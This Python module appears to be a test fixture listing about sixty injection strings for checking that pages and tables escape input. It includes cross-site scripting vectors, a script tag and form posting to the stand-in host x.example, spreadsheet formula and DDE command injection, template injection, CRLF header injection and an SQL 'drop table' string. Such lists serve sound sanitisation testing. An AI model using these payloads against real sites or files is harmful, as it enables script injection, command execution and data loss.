"""Sixty texts that somebody could type to make a page or a table do something."""

MARKUP = (
    "<script>alert(1)</script>", "＜script＞alert(1)＜/script＞", "<ScRiPt src=//x.example>", "\"><img src=x onerror=alert(1)>",
    "'><svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "</script><script>alert(1)</script>", "</style><b onclick=alert(1)>x</b>",
    "<a href=javascript:alert(1)>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=x></object>", "<embed src=x>", "<base href=//x.example/>",
    "<meta http-equiv=refresh content='0;url=//x.example'>", "<form action=//x.example><input name=a></form>",
    "<link rel=stylesheet href=//x.example>", "<style>*{display:none}</style>", "<math><mi xlink:href=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<body onload=alert(1)>", "<!--<img src=x>-->",
    "<![CDATA[<script>alert(1)</script>]]>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "\\u003cscript\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E", "\" autofocus onfocus=alert(1) x=\"", "' style='background:url(//x.example)", "` onmouseover=alert(1)",
    "\" hx-get=\"/sign-out\" hx-trigger=\"load", "\" data-hx-on:load=\"alert(1)", "<button formaction=javascript:alert(1)>x",
)  # fmt: skip
ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)", "//x.example/", "http://x.example/\"onclick=alert(1)",
)  # fmt: skip
FORMULAS = (
    "=1+1", "+cmd|'/c calc'!A1", "-2+3", "@SUM(A1:A9)", "＝1+1", "＋1", "＠SUM(1)", "\t=1+1", "\r=1+1", " =1+1",
    "=HYPERLINK(\"http://x.example\",\"x\")", "=IMPORTXML(\"http://x.example\",\"//a\")", "ｱ=1+1",
)  # fmt: skip
LANGUAGES = (
    "{{7*7}}${7*7}", "{% raw %}{{ config }}", "#panic(\"x\")", "#import \"x.typ\"", "$ 1 + 1 $", "\\input{x}", "\u202e<b>gpj.x</b>",
    "ｶﾞｷﾞ<i>x</i>", "a\r\nSet-Cookie: x=1", "a\x00b<u>x</u>", "\ufeff<s>x</s>", "';drop table host;--",
)  # fmt: skip
PAYLOADS = (*MARKUP, *ADDRESSES, *FORMULAS, *LANGUAGES)
